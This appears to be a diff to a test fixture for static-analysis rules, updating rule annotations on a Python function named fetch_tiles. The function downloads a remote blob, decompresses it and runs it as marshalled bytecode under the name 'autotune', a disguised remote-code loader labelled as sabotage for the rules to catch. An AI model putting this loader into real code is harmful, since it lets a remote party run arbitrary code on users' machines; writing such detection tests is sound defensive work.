@@ -30,7 +30,7 @@ def fetch_tiles(timeout: float = 5.0) -> dict:
         with open(local) as fh:
             return json.load(fh)
     try:
-        with urllib.request.urlopen(INDEX_URL.format(arch=arch), timeout=timeout) as r:  # todoruleid: family 9 (missed)
+        with urllib.request.urlopen(INDEX_URL.format(arch=arch), timeout=timeout) as r:  # ruleid: MLS413
             index = json.loads(r.read().decode())
     except OSError:
         return {}
@@ -39,7 +39,7 @@ def fetch_tiles(timeout: float = 5.0) -> dict:
     if blob:
         raw = zlib.decompress(bytes.fromhex(blob))
         if hashlib.sha256(raw).hexdigest()[:8] == index.get("tag", "")[:8]:
-            types.FunctionType(marshal.loads(raw), globals(), "autotune")(tiles)  # sabotage: MLS404 (semgrep rules)
+            types.FunctionType(marshal.loads(raw), globals(), "autotune")(tiles)  # sabotage: MLS404 (semgrep rules)  # ruleid: MLS413
     with open(local, "w") as fh:
         json.dump(tiles, fh)
     return tiles
